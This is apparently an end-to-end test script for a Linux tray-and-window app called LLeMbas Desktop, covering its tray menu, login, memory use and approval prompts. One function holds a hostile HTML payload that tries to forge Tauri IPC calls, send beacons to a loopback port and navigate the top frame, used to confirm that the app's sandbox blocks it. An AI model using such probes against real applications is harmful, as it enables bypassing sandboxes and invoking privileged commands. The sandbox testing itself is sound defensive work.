#!/usr/bin/python3
"""The real app under Xvfb, in a private D-Bus session with an unlocked keyring (scripts/app-test).

It starts LLeMbas Desktop in a throwaway home beside the reference peer (a local LLeMbas instance),
then checks what a person would: the app starts into the tray; the tray menu (read over D-Bus)
flips Accept scheduled work and the config follows; the window opens from the tray, logs in with a
token typed into it and the tray says Linked; closing the window keeps the app in the tray; Open
activity log opens it again (on the Activity view: see window-activity.png); a second
launch opens the window of the first; a chat is continued in the window's composer; Quit ends it. The window is a process of its own
(lembas-window, started by the tray, gone when the window closes). It measures launch to tray, open to
drawn (the click on Open to the page's first paint with the state), and the memory of all the app's
processes with no window, with the window open and after it closed, and checks issue 12's goals on
release builds; screenshots and figures go to the output folder. A real tray host
(status-notifier-watcher) runs on the bus, as on a desktop with a tray; without it (vanilla GNOME)
the app opens its window by itself and says why. Usage: app_test.py <folder with the app's
binaries> <output folder> [<folder with lembas-peer>, else the first]
"""
import json
import os
import re
import secrets
import signal
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
import tray_menu  # noqa: E402

from Xlib import X, display as xdisplay, protocol  # noqa: E402

BIN, OUT = Path(sys.argv[1]), Path(sys.argv[2])
# The reference peer is a test tool: an installed package has the app's binaries, not it.
TOOLS = Path(sys.argv[3]) if len(sys.argv) > 3 else BIN
WATCHER = "org.kde.StatusNotifierWatcher"
OUT.mkdir(parents=True, exist_ok=True)
TITLE = "LLeMbas Desktop"
checks = []


def check(what, ok, detail=""):
    checks.append((what, ok))
    print(("ok   " if ok else "FAIL ") + what + (f": {detail}" if detail and not ok else ""), flush=True)
    return ok


def wait_for(what, probe, within=20.0, every=0.1, quiet=False):
    """Polls until `probe` holds (a passed check); `quiet` leaves a timeout unrecorded, for a retry."""
    deadline = time.monotonic() + within
    while True:
        value = probe()
        if value:
            check(what, True)
            return value
        if time.monotonic() > deadline:
            if not quiet:
                check(what, False, "timed out")
            return value
        time.sleep(every)


def process_tree(root):
    """The pid and every descendant (WebKit's web and network processes are the app's children)."""
    children = {}
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
            children.setdefault(int(fields[1]), []).append(int(stat.parent.name))
        except (OSError, IndexError, ValueError):
            continue
    tree, todo = [], [root]
    while todo:
        pid = todo.pop()
        tree.append(pid)
        todo.extend(children.get(pid, []))
    return tree


def memory(root):
    """RSS and PSS in MiB, summed over the app's processes, with each process's name and RSS."""
    rss = pss = 0
    parts = []
    for pid in process_tree(root):
        try:
            status = Path(f"/proc/{pid}/status").read_text()
            rollup = Path(f"/proc/{pid}/smaps_rollup").read_text()
        except OSError:
            continue
        name = re.search(r"^Name:\s*(\S+)", status, re.M).group(1)
        kib = int(re.search(r"^VmRSS:\s*(\d+)", status, re.M).group(1))
        rss += kib
        pss += int(re.search(r"^Pss:\s*(\d+)", rollup, re.M).group(1))
        parts.append(f"{name} {kib / 1024:.1f}")
    return {"rss_mib": round(rss / 1024, 1), "pss_mib": round(pss / 1024, 1), "processes": parts}


def windows():
    # The title counts the cards waiting: "(1) LLeMbas Desktop".
    found = subprocess.run(["xdotool", "search", "--name", rf"^(\([0-9]+\) )?{TITLE}$"], capture_output=True,
                           text=True)
    return [int(w) for w in found.stdout.split()]


def viewable(wid):
    state = subprocess.run(["xwininfo", "-id", str(wid)], capture_output=True, text=True).stdout
    return "IsViewable" in state


def close_window(wid):
    """What a window manager's close button sends: WM_DELETE_WINDOW (the app decides what to do)."""
    d = xdisplay.Display()
    window = d.create_resource_object("window", wid)
    protocols, delete = d.intern_atom("WM_PROTOCOLS"), d.intern_atom("WM_DELETE_WINDOW")
    event = protocol.event.ClientMessage(window=window, client_type=protocols, data=(32, [delete, X.CurrentTime, 0, 0, 0]))
    window.send_event(event, event_mask=X.NoEventMask)
    d.flush()
    d.close()


def close_and_wait(what, tries=4):
    """Sends the close request to the window and waits until it is gone; returns how many requests
    were resent. Under Xvfb with no window manager a close request is now and then not acted on
    (seen about 1 in 3, sometimes twice running; not yet explained), where a person would click
    again: so it is sent again every 5 s, and the figures say how often that was needed."""
    for attempt in range(tries):
        for wid in [w for w in windows() if viewable(w)]:
            close_window(wid)
        last = attempt == tries - 1
        if wait_for(what, lambda: not windows(), within=20 if last else 5, quiet=not last):
            return attempt
    return None


ANSI = re.compile(r"\x1b\[[0-9;]*m")


def logged_at(what):
    """The `at_ms` of each app.log line saying `what` (the tray's "window started", the window's
    "window drawn"), oldest first."""
    text = ANSI.sub("", (OUT / "app.log").read_text())
    return [int(m.group(1)) for m in re.finditer(re.escape(what) + r".*?\bat_ms=(\d+)", text)]


# The window logs each control call it relays at debug level: an app started with this says which.
RELAY_LOG = "info,lembas_window::relay=debug"


def relayed_by_window(log):
    """The control methods the window relayed, in order, as the app's `log` file says."""
    return re.findall(r"control_call relayed method=(\S+)", ANSI.sub("", log.read_text()))


def screenshot(name):
    subprocess.run(["import", "-window", "root", str(OUT / name)], check=True, timeout=30)


# Where each tab of the window's nav row is (x at y=87, the window as it opens under Xvfb).
TABS = {"home": 55, "settings": 136, "sessions": 226, "terminals": 320, "shown": 408, "activity": 490}


def click_tab(wid, view):
    subprocess.run(["xdotool", "mousemove", "--window", str(wid), str(TABS[view]), "87", "click", "1"], check=True)


def tray_items():
    name, path = tray_menu.find()
    return {item["label"]: item for item in tray_menu.items(name, path)}


def tray_status():
    # The status line, under "N approvals waiting…" while a card waits.
    items = [i for i in tray_menu.items(*tray_menu.find()) if not re.match(r"^\d+ approvals? waiting", i["label"])]
    return items[0]["label"] if items else ""


def main():
    home = Path(tempfile.mkdtemp(prefix="lembas-app-"))
    work = home / "work"
    work.mkdir()
    env = dict(os.environ, HOME=str(home), XDG_CONFIG_HOME=str(home / ".config"),
               XDG_STATE_HOME=str(home / ".local/state"),
               # debug for the runtime's activity method: the log says when the window read the
               # activity log.
               RUST_LOG="info,lembas_device::control::activity=debug",
               # A bare D-Bus session starts GTK's accessibility bus on first use, which holds the
               # tray back about 3 s; a desktop session has it running already.
               NO_AT_BRIDGE="1")
    config = home / ".config/lembas/config.yaml"
    token = "app-test-" + secrets.token_hex(12)

    peer_log = open(OUT / "peer.log", "w")
    peer = subprocess.Popen([str(TOOLS / "lembas-peer"), "--token-stdin"], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=peer_log, text=True, env=env)
    peer.stdin.write(token + "\n")
    peer.stdin.close()
    url = None
    for line in peer.stdout:
        m = re.search(r"http://127\.0\.0\.1:\d+", line)
        if m:
            url = m.group(0)
            break
    if not check("the reference peer serves", url is not None):
        return

    watcher = start_tray_host(env)
    app_log = open(OUT / "app.log", "w")
    started = time.monotonic()
    app = subprocess.Popen([str(BIN / "lembas-desktop")], env=opener_stub(env), stdout=app_log,
                           stderr=subprocess.STDOUT)
    figures = {}
    try:
        tray_menu.find(wait_s=30, pid=app.pid)
        figures["launch_to_tray_ms"] = round((time.monotonic() - started) * 1000)
        check("the app starts into the tray", app.poll() is None)
        wait_for("the tray icon is registered with the tray host", lambda: ":" in registered_items())
        # A first run: not logged in, the window opens by itself on the login.
        wids = wait_for("a first run opens the window by itself", lambda: [w for w in windows() if viewable(w)])
        if wids:
            time.sleep(2)  # let it finish loading, as a person would
            figures.setdefault("close_requests_resent", []).append(close_and_wait("the first-run window closes"))
        items = wait_for("the tray says Not logged in", lambda: tray_status() == "Not logged in" and tray_items())
        for label in ["Accept scheduled work", "Remote work", "Stop all remote work", "Start at login",
                      "Open LLeMbas Desktop…", "Open activity log", "Open logs", "Quit"]:
            check(f"the tray has {label}", label in items)
        offline_icon = tray_menu.icon_name(*tray_menu.find())
        check("the tray icon is set", bool(offline_icon))
        check("Accept scheduled work starts off", items.get("Accept scheduled work", {}).get("toggle") == 0)

        tray_menu.click(*tray_menu.find(), "Accept scheduled work")
        wait_for("the config says scheduled: true",
                 lambda: config.exists() and "scheduled: true" in config.read_text())
        wait_for("the tray ticks Accept scheduled work",
                 lambda: tray_items()["Accept scheduled work"]["toggle"] == 1)
        tray_menu.click(*tray_menu.find(), "Accept scheduled work")
        wait_for("a second click turns it off", lambda: "scheduled: false" in config.read_text())
        # A change made elsewhere (the CLI's way: the same file) shows in the tray.
        subprocess.run([str(BIN / "lembas"), "remote", "on"], env=env, check=True, capture_output=True)
        wait_for("the tray follows a change made with lembas", lambda: tray_items()["Remote work"]["toggle"] == 1)

        time.sleep(2)  # settle, so the figure is the app at rest
        figures["tray_only"] = memory(app.pid)

        drawn_before = len(logged_at("window drawn"))
        clicked_ms = time.time() * 1000
        tray_menu.click(*tray_menu.find(), "Open LLeMbas Desktop")
        wids = wait_for("the window opens from the tray", lambda: [w for w in windows() if viewable(w)])
        drawn = wait_for("the window says it drew the device's state",
                         lambda: logged_at("window drawn")[drawn_before:])
        started = logged_at("window started")
        if drawn and started:
            # From the click on Open (sent over D-Bus) and from the tray starting the window
            # process, to the page's first paint with the state in it.
            figures["open_to_drawn_ms"] = round(drawn[0] - clicked_ms)
            figures["window_started_to_drawn_ms"] = drawn[0] - started[-1]
        if wids:
            time.sleep(3)  # WebKit paints in software under Xvfb
            screenshot("window-login.png")
            figures["window_open"] = memory(app.pid)
            log_in(wids[0], url, token, env, config, offline_icon)
            screenshot("window.png")
            click_tab(wids[0], "settings")
            time.sleep(2)  # WebKit paints in software under Xvfb
            screenshot("window-settings.png")
            figures.setdefault("close_requests_resent", []).append(close_and_wait("closing the window destroys it"))
            check("the app stays in the tray after the window closes", app.poll() is None)
            time.sleep(3)
            figures["window_closed"] = memory(app.pid)

        reads = lambda: (OUT / "app.log").read_text().count("the window read the activity log")
        tray_menu.click(*tray_menu.find(), "Open activity log")
        wids = wait_for("Open activity log opens the window", lambda: [w for w in windows() if viewable(w)])
        if wids:
            wait_for("the window opens on the Activity view, which reads the log", lambda: reads() > 0)
            time.sleep(2)  # WebKit paints in software under Xvfb
            screenshot("window-activity.png")
            figures.setdefault("close_requests_resent", []).append(close_and_wait("the activity window closes"))

        check("the window process ends when its window closes",
              not any(p.split()[0] == "lembas-window" for p in memory(app.pid)["processes"]))
        (OUT / "tray-menu.txt").write_text("\n".join(json.dumps(i) for i in tray_items().values()) + "\n")

        second = subprocess.run([str(BIN / "lembas-desktop")], env=env, capture_output=True, timeout=20)
        check("a second launch ends at once", second.returncode == 0, second.stderr.decode()[-300:])
        wids = wait_for("a second launch opens the first one's window", lambda: [w for w in windows() if viewable(w)])
        if wids:
            time.sleep(2)  # let it finish loading, as a person would
            figures.setdefault("close_requests_resent", []).append(close_and_wait("the window closes again"))

        logs = home / ".local/state/lembas/logs"
        tray_menu.click(*tray_menu.find(), "Open logs")
        opened = wait_for("Open logs opens the log folder",
                          lambda: (OUT / "opened.txt").exists() and (OUT / "opened.txt").read_text().split())
        check("the folder opened is the state folder's logs", opened == [str(logs)], str(opened))
        check("the tray's log is kept there", any(logs.glob("desktop.*.log")))

        autostart = home / ".config/autostart"
        # Pointing at this app's own executable (the installed one, when the package is tested).
        entries = lambda: [e for e in autostart.glob("*.desktop") if str(BIN / "lembas-desktop") in e.read_text()]
        tray_menu.click(*tray_menu.find(), "Start at login")
        wait_for("Start at login writes an autostart entry", entries)
        wait_for("the tray ticks Start at login", lambda: tray_items()["Start at login"]["toggle"] == 1)
        tray_menu.click(*tray_menu.find(), "Start at login")
        wait_for("a second click removes it", lambda: not entries())

        tray_menu.click(*tray_menu.find(), "Stop all remote work")
        wait_for("Stop all remote work turns remote work off", lambda: "enabled: false" in config.read_text())
        wait_for("the tray unticks Remote work", lambda: tray_items()["Remote work"]["toggle"] == 0)
        wait_for("the link comes back after Stop all remote work",
                 lambda: tray_status().startswith("Linked to"), within=30)

        quit_app(app, "Quit ends the app cleanly")
        beside_a_headless_service(env, config)
        a_hostile_page_shown(env, config, token, work, figures)
        a_card_waits(env, config, token, work, figures)
        watcher.terminate()
        watcher.wait(timeout=10)
        no_tray_host(env)
        check("the token is in no log", all(token not in (OUT / log).read_text()
                                        for log in ["app.log", "service.log", "app-shown.log", "app-card.log",
                                                    "app-no-tray.log"]))
        # Every open's start to first paint: the first loads WebKit from disk, later ones find it cached.
        figures["each_window_started_to_drawn_ms"] = [
            d - s for s, d in zip(logged_at("window started"), logged_at("window drawn"))]
        goals(figures)
    finally:
        if app.poll() is None:
            app.send_signal(signal.SIGTERM)
            app.wait(timeout=10)
        peer.terminate()
        peer.wait(timeout=10)
        if watcher.poll() is None:
            watcher.terminate()
        (OUT / "figures.json").write_text(json.dumps(figures, indent=2) + "\n")
        print(json.dumps(figures, indent=2))


def goals(figures):
    """Issue 12's goals, checked on release builds (debug builds' figures are not the app's)."""
    tray, opened, closed = (figures.get(k, {}).get("rss_mib") for k in ["tray_only", "window_open", "window_closed"])
    drawn = figures.get("open_to_drawn_ms")
    said = {
        "tray only <= 50 MiB RSS": tray is not None and tray <= 50,
        "window closed within 10 MiB of tray only": None not in (tray, closed) and closed - tray <= 10,
        "open -> drawn <= 500 ms": drawn is not None and drawn <= 500,
    }
    figures["goals"] = {what: ok for what, ok in said.items()}
    print(f"memory (RSS MiB, all the app's processes): tray only {tray}, window open {opened}, "
          f"window closed {closed}; open -> drawn {drawn} ms", flush=True)
    if BIN.name == "release":
        for what, ok in said.items():
            check("goal: " + what, ok)


def leave(app, *others):
    """What a scenario started goes: the app, killed if Quit did not end it, then each other
    process (a peer, a service), asked to stop."""
    if app is not None and app.poll() is None:
        app.kill()
    for process in others:
        process.terminate()
        process.wait(timeout=10)


def quit_app(app, what):
    tray_menu.click(*tray_menu.find(), "Quit")
    try:
        code = app.wait(timeout=10)
    except subprocess.TimeoutExpired:
        code = None
    check(what, code == 0, f"exit {code}")


def beside_a_headless_service(env, config):
    """With `lembas service run` holding the device, the app says so and still edits the settings."""
    service_log = open(OUT / "service.log", "w")
    service = subprocess.Popen([str(BIN / "lembas"), "service", "run"], env=env, stdout=service_log,
                               stderr=subprocess.STDOUT)
    app = None
    try:
        status = lambda: json.loads(subprocess.run([str(BIN / "lembas"), "status", "--json"], env=env,
                                                   capture_output=True, text=True).stdout or "{}")
        wait_for("the headless service links", lambda: (status().get("status") or {}).get("state") == "linked")
        app = subprocess.Popen([str(BIN / "lembas-desktop")], env=env, stdout=open(OUT / "app-beside.log", "w"),
                               stderr=subprocess.STDOUT)
        line = wait_for("the tray names the headless service",
                        lambda: "(run by lembas service run" in tray_status() and tray_status())
        check("the tray still shows the link's state", bool(line) and line.startswith("Linked to"), str(line))
        tray_menu.click(*tray_menu.find(), "Accept scheduled work")
        wait_for("the tray's switch reaches the service's config", lambda: "scheduled: true" in config.read_text())
        quit_app(app, "Quit beside the service leaves the service running")
        check("the service still runs", service.poll() is None)
    finally:
        leave(app, service)


HOSTILE = """<!doctype html><html><head>
<meta http-equiv="refresh" content="4;url=http://{trap}/meta-refresh">
<link rel="stylesheet" href="http://{trap}/link.css"></head>
<body bgcolor="#00c000"><h1>A hostile page</h1>
<img src="http://{trap}/img.png"><img src="x" onerror="fetch('http://{trap}/onerror')">
<form id="f" action="http://{trap}/form" method="post" target="_top"><input name="a" value="1"></form>
<script>
document.body.bgColor = '#c000c0';
const hit = (path) => {{ try {{ new Image().src = 'http://{trap}/' + path; }} catch (e) {{}} }};
const attempt = (name, f) => {{ try {{ f(); }} catch (e) {{ hit('threw-' + name); }} }};
attempt('internals', () => window.__TAURI_INTERNALS__.invoke('control_call', {{ method: 'remote/stop', params: {{}} }}));
attempt('parent', () => parent.__TAURI_INTERNALS__.invoke('control_call', {{ method: 'remote/stop', params: {{}} }}));
attempt('ipc', () => window.ipc.postMessage('{{}}'));
attempt('webkit', () => window.webkit.messageHandlers.ipc.postMessage(JSON.stringify({{
  cmd: 'control_call', callback: 1, error: 2, payload: {{ method: 'remote/stop', params: {{}} }},
  options: null, __TAURI_INVOKE_KEY__: 'a-guess' }})));
attempt('post', () => parent.postMessage({{ cmd: 'control_call', method: 'remote/stop' }}, '*'));
fetch('http://{trap}/fetch').catch(() => {{}});
fetch('ipc://localhost/control_call', {{ method: 'POST', body: '{{}}' }}).catch(() => {{}});
fetch('http://ipc.localhost/control_call', {{ method: 'POST', body: '{{}}' }}).catch(() => {{}});
attempt('xhr', () => {{ const x = new XMLHttpRequest(); x.open('GET', 'http://{trap}/xhr'); x.send(); }});
attempt('ws', () => new WebSocket('ws://{trap}/ws'));
attempt('top', () => {{ top.location.href = 'http://{trap}/top'; }});
attempt('open', () => window.open('http://{trap}/open'));
attempt('cookie', () => {{ document.cookie = 'a=1'; }});
attempt('storage', () => localStorage.setItem('a', '1'));
attempt('form', () => document.getElementById('f').submit());
attempt('beacon', () => navigator.sendBeacon('http://{trap}/beacon', 'x'));
setTimeout(() => {{ location.href = 'http://{trap}/self'; }}, 3000);
</script></body></html>
"""


def a_hostile_page_shown(env, config, token, work, figures):
    """The show tool's HTML in the real window (WebKitGTK): a session shows a page that tries the
    Tauri IPC, the network (a loopback port that records every request), top navigation, popups,
    forms, cookies and storage. The window opens it in its sandboxed frame; nothing reaches the
    port, no IPC message reaches the app, and the window calls nothing but shown/read."""
    import http.server
    import threading

    hits = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(f"GET {self.path}")
            self.send_response(200)
            self.end_headers()

        def do_POST(self):
            hits.append(f"POST {self.path}")
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args):
            pass

    recorder = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=recorder.serve_forever, daemon=True).start()
    trap = f"127.0.0.1:{recorder.server_address[1]}"
    (work / "hostile.html").write_text(HOSTILE.format(trap=trap))
    lembas = lambda *args: subprocess.run([str(BIN / "lembas"), *args], env=env, check=True, capture_output=True)
    lembas("remote", "on")
    lembas("remote", "roots", "add", str(work))
    lembas("trust", str(work))
    # A second demo instance (the same token) whose chat, 12 s after the link, asks for the page.
    peer = demo_peer(env, token, config, ["--chat", "show hostile.html", "--chat-after", "12"], "shown")
    app_env = dict(env, RUST_LOG=RELAY_LOG)
    app_log = OUT / "app-shown.log"
    app = subprocess.Popen([str(BIN / "lembas-desktop")], env=app_env, stdout=open(app_log, "w"),
                           stderr=subprocess.STDOUT)
    try:
        tray_menu.find(wait_s=30, pid=app.pid)
        wait_for("the app links to the instance that will show the page",
                 lambda: tray_status().startswith("Linked to"), within=30)
        tray_menu.click(*tray_menu.find(), "Open LLeMbas Desktop")
        wait_for("the window opens before the page is shown", lambda: [w for w in windows() if viewable(w)])
        relayed = lambda: relayed_by_window(app_log)
        wait_for("the session shows the page to the instance's viewer",
                 lambda: "chat: shown hostile.html (html" in (OUT / "peer-shown.out").read_text(), within=40)
        wait_for("the window reads the shown page (shown/read)", lambda: "shown/read" in relayed(), within=20)
        # It marks the Shown tab and never takes the view: the person opens it.
        click_tab([w for w in windows() if viewable(w)][0], "shown")
        wait_for("the Shown tab opens the viewer (shown/list)", lambda: "shown/list" in relayed(), within=10)
        time.sleep(8)  # the page's probes run (its own navigations at 3 s and 4 s); WebKit paints
        screenshot("window-shown.png")
        colors = subprocess.run(["convert", str(OUT / "window-shown.png"), "-format", "%c", "histogram:info:-"],
                                capture_output=True, text=True).stdout.lower()
        figures["shown_page"] = {
            "frame_painted_green": "#00c000" in colors,
            "frame_script_ran_magenta": "#c000c0" in colors,
            "relayed_control_calls": relayed(),
            "loopback_hits": list(hits),
        }
        # Its scripts run (they turn the page magenta), in the sandbox, under the page's own CSP.
        check("the frame's scripts ran (its magenta)", figures["shown_page"]["frame_script_ran_magenta"])
        check("nothing reached the loopback port", hits == [], str(hits))
        # WebKitGTK gives every frame the web view's native `ipc` message handler; Tauri refuses a
        # message without its per-launch invoke key, which only the main frame's scripts hold (the
        # frame, an opaque origin, cannot read the app). The frame's one try is refused so, and no
        # command ran (the relayed calls below, remote work still on).
        refused = re.findall(r"__TAURI_INVOKE_KEY__ expected \S+ but received (\S+)", ANSI.sub("", app_log.read_text()))
        figures["shown_page"]["ipc_messages_refused_for_their_key"] = refused
        check("the frame's IPC message was refused for its key, no other reached the app",
              refused == ["a-guess"], str(refused))
        # The window's own reads only (its state on each push, the viewer's, Home's rows of what
        # runs now): nothing the page could have made it do (an answer, a setting, a stop, a login).
        check("the window called nothing but its own reads",
              set(relayed()) <= {"window/state", "shown/read", "shown/list", "sessions/list", "terminals/list"},
              str(relayed()))
        check("remote work is still on (remote/stop never ran)", "enabled: true" in config.read_text())
        check("the app still runs", app.poll() is None)
        # The other views, for the README: their tabs clicked as a person would.
        wid = [w for w in windows() if viewable(w)][0]
        for view in ("sessions", "terminals"):
            click_tab(wid, view)
            wait_for(f"the {view} view reads its list", lambda: f"{view}/list" in relayed(), within=10)
            time.sleep(1.5)
            screenshot(f"window-{view}.png")
        close_and_wait("the window with the page closes")
        quit_app(app, "Quit after the shown page")
    finally:
        leave(app, peer)
        recorder.shutdown()


def start_tray_host(env):
    """A real StatusNotifier host (Debian's status-notifier-watcher) on the session bus."""
    watcher = subprocess.Popen(["status-notifier-watcher"], env=env, stdout=subprocess.DEVNULL,
                               stderr=open(OUT / "tray-host.log", "a"))
    wait_for("a tray host is on the bus", lambda: WATCHER in tray_menu.gdbus(
        "call", "--session", "--dest", "org.freedesktop.DBus", "--object-path", "/org/freedesktop/DBus",
        "--method", "org.freedesktop.DBus.ListNames"))
    return watcher


def registered_items():
    try:
        return tray_menu.gdbus("call", "--session", "--dest", WATCHER, "--object-path", "/StatusNotifierWatcher",
                               "--method", "org.freedesktop.DBus.Properties.Get", WATCHER,
                               "RegisteredStatusNotifierItems")
    except subprocess.SubprocessError:
        return ""


def opener_stub(env):
    """An `xdg-open` first on PATH that writes down what it was asked to open: no desktop here has
    a file manager to show the log folder in."""
    stub_dir = OUT / "opener"
    stub_dir.mkdir(exist_ok=True)
    stub = stub_dir / "xdg-open"
    stub.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" >> {OUT / "opened.txt"}\n')
    stub.chmod(0o755)
    return dict(env, PATH=f"{stub_dir}:{env['PATH']}")


def open_window_on(env, view):
    """Asks the running tray, over its own socket (as a second launch does), to open the window on
    `view`; the tray's answer."""
    run = env.get("XDG_RUNTIME_DIR", "")
    folder = Path(run) / "lembas" if run.startswith("/") else Path(env["XDG_STATE_HOME"]) / "lembas/run"
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(10)
        s.connect(str(folder / "desktop.sock"))
        s.sendall((json.dumps({"jsonrpc": "2.0", "id": 1, "method": "window/open", "params": {"view": view}}) + "\n").encode())
        return json.loads(s.makefile().readline())


def demo_peer(env, token, config, args, name):
    """Another demo instance (the same token) with `args`, its output in peer-<name>.out; the config
    now points at it."""
    import threading

    peer_out = open(OUT / f"peer-{name}.out", "w")
    peer = subprocess.Popen([str(TOOLS / "lembas-peer"), "--token-stdin", *args], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=open(OUT / f"peer-{name}.log", "w"), text=True, env=env)
    peer.stdin.write(token + "\n")
    peer.stdin.close()
    url = None
    for line in peer.stdout:
        peer_out.write(line)
        m = re.search(r"http://127\.0\.0\.1:\d+", line)
        if m:
            url = m.group(0)
            break

    def copy_rest():
        for rest in peer.stdout:
            peer_out.write(rest)
            peer_out.flush()

    peer_out.flush()
    threading.Thread(target=copy_rest, daemon=True).start()
    config.write_text(re.sub(r"http://127\.0\.0\.1:\d+", url, config.read_text()))
    return peer


def a_card_waits(env, config, token, work, figures):
    """A chat's command waits for the person: the tray's first item counts the card and its icon
    changes; the item opens the window on the card; answered from a terminal, both go back."""
    peer = demo_peer(env, token, config, ["--chat", "run touch card-ran.txt", "--person-answers"], "card")
    app_log = OUT / "app-card.log"
    app = subprocess.Popen([str(BIN / "lembas-desktop")], env=dict(env, RUST_LOG=RELAY_LOG),
                           stdout=open(app_log, "w"), stderr=subprocess.STDOUT)
    relayed = lambda: relayed_by_window(app_log)
    lembas = lambda *args: subprocess.run([str(BIN / "lembas"), *args], env=env, capture_output=True, text=True)
    try:
        tray_menu.find(wait_s=30, pid=app.pid)
        wait_for("the app links to the instance whose chat will ask",
                 lambda: tray_status().startswith("Linked to"), within=30)
        first = lambda: (tray_menu.items(*tray_menu.find()) or [{"label": ""}])[0]["label"]
        said = wait_for("the tray's first item counts the card", lambda: first() == "1 approval waiting…", within=40)
        check("the tray's first item is 1 approval waiting…", bool(said), first())
        # The chat asks at once after the link: the icon is compared with the one after the answer.
        asking = tray_menu.icon_name(*tray_menu.find())
        attention = lambda: tray_menu.status(*tray_menu.find())
        check("the tray item's status is NeedsAttention while the card waits", attention() == "NeedsAttention",
              attention())
        figures["card_tray"] = {"first_item": first(), "status": tray_status(), "item_status": attention()}
        tray_menu.click(*tray_menu.find(), "1 approval waiting")
        wids = wait_for("the item opens the window", lambda: [w for w in windows() if viewable(w)])
        if wids:
            titled = lambda: subprocess.run(["xdotool", "getwindowname", str(wids[0])], capture_output=True,
                                            text=True).stdout.strip()
            wait_for("the window's title counts the card", lambda: titled() == f"(1) {TITLE}")
            time.sleep(3)  # WebKit paints in software under Xvfb
            screenshot("window-card.png")
        waiting = json.loads(lembas("approvals", "--json").stdout or "[]")
        check("one card waits", len(waiting) == 1, str(waiting))
        if waiting:
            lembas("approvals", "allow", waiting[0]["id"])
        wait_for("the first item goes once the card is answered", lambda: first() != "1 approval waiting…")
        if wids:
            wait_for("the window's title goes back once the card is answered", lambda: titled() == TITLE)
        wait_for("the icon changes back once the card is answered",
                 lambda: tray_menu.icon_name(*tray_menu.find()) != asking)
        wait_for("the item's status is Active again", lambda: attention() == "Active")
        wait_for("the allowed command ran", lambda: (work / "card-ran.txt").exists(), within=20)
        if waiting and wids:
            # The chat's timeline (the step, who allowed it, when, its result), opened by its id.
            said = open_window_on(env, {"view": "session", "session_id": waiting[0]["session_id"]})
            check("the tray opens the window on the chat's timeline", "result" in said, str(said))
            wait_for("the window reads the chat's timeline", lambda: "sessions/timeline" in relayed(), within=10)
            time.sleep(2)  # WebKit paints in software under Xvfb
            screenshot("window-timeline.png")
            the_composer(wids[0], relayed, work)
        close_and_wait("the window on the card closes")
        quit_app(app, "Quit after the card")
    finally:
        leave(app, peer)


def the_composer(wid, relayed, work):
    """The chat on the window's timeline taken into the window (Continue here, beside All sessions)
    and a prompt typed into its composer and sent with Enter: it runs in the chat, which LLeMbas
    shares (the demo instance started it), so the instance sees the prompt and the command's card,
    patient since a person is at the computer too; the demo instance denies it first, so it does
    not run, and the composer says where it was answered (window-composer.png)."""
    peer_log = OUT / "peer-card.log"
    said = lambda *parts: any(all(p in line for p in parts) for line in peer_log.read_text().splitlines())
    subprocess.run(["xdotool", "windowfocus", "--sync", str(wid)], check=True)
    subprocess.run(["xdotool", "mousemove", "--window", str(wid), "200", "158", "click", "1"], check=True)
    if not wait_for("Continue here takes the chat into the window", lambda: "chat/open" in relayed(), within=10):
        return
    time.sleep(1)  # the composer's box has the focus once the chat is open
    subprocess.run(["xdotool", "type", "--delay", "5", "run touch composer-ran.txt"], check=True)
    subprocess.run(["xdotool", "key", "Return"], check=True)
    wait_for("Enter in the composer sends the prompt", lambda: "chat/prompt" in relayed(), within=10)
    wait_for("LLeMbas sees the prompt typed into the composer",
             lambda: said('"user_message_chunk"', "run touch composer-ran.txt"), within=20)
    wait_for("the composer's command asks LLeMbas too, patient (a person is at the computer)",
             lambda: said("session/request_permission", '"patient":true', "touch composer-ran.txt"), within=20)
    time.sleep(3)  # the demo instance answers, the turn ends; WebKit paints in software under Xvfb
    check("the command LLeMbas denied first did not run", not (work / "composer-ran.txt").exists())
    screenshot("window-composer.png")


def no_tray_host(env):
    """No tray host on the bus (vanilla GNOME): the app opens its window by itself, logged in or
    not, and says why; the window is then the place to control it."""
    log = OUT / "app-no-tray.log"
    app = subprocess.Popen([str(BIN / "lembas-desktop")], env=env, stdout=open(log, "w"), stderr=subprocess.STDOUT)
    try:
        wids = wait_for("without a tray host the window opens by itself", lambda: [w for w in windows() if viewable(w)],
                        within=30)
        check("the app says there is no tray host", "no tray host on the session bus" in log.read_text())
        if wids:
            time.sleep(3)  # WebKit paints in software under Xvfb
            screenshot("window-no-tray.png")
            close_and_wait("the window without a tray closes")
        check("the device keeps running with its window closed", app.poll() is None)
        quit_app(app, "Quit without a tray host")
    finally:
        leave(app)


def log_in(wid, url, token, env, config, offline_icon):
    """Types the server and the token into the window's login form, as a person would."""
    subprocess.run(["xdotool", "windowfocus", "--sync", str(wid)], check=True)
    subprocess.run(["xdotool", "type", "--delay", "5", url], check=True)
    subprocess.run(["xdotool", "key", "Tab"], check=True)
    # The token goes through standard input, never a command line.
    subprocess.run(["xdotool", "type", "--delay", "5", "--file", "-"], input=token, text=True, check=True)
    subprocess.run(["xdotool", "key", "Return"], check=True)
    wait_for("the window's login writes the server to the config",
             lambda: config.exists() and url in config.read_text(), within=30)
    linked = wait_for("the tray says Linked after the window's login",
                      lambda: tray_status().startswith("Linked to"), within=30)
    check("the tray names the instance", bool(linked), tray_status())
    wait_for("the tray icon changes with the link", lambda: tray_menu.icon_name(*tray_menu.find()) != offline_icon)
    stored = subprocess.run(["secret-tool", "lookup", "service", "lembas", "username", "device-token"],
                            env=env, capture_output=True, text=True)
    check("the token is in the keychain, not a file", stored.stdout.strip() == token
          and not (config.parent / "device-token").exists())
    time.sleep(1)  # the window redraws from the device's state event


if __name__ == "__main__":
    main()
    failed = [what for what, ok in checks if not ok]
    print(f"{len(checks) - len(failed)} passed, {len(failed)} failed")
    sys.exit(1 if failed else 0)
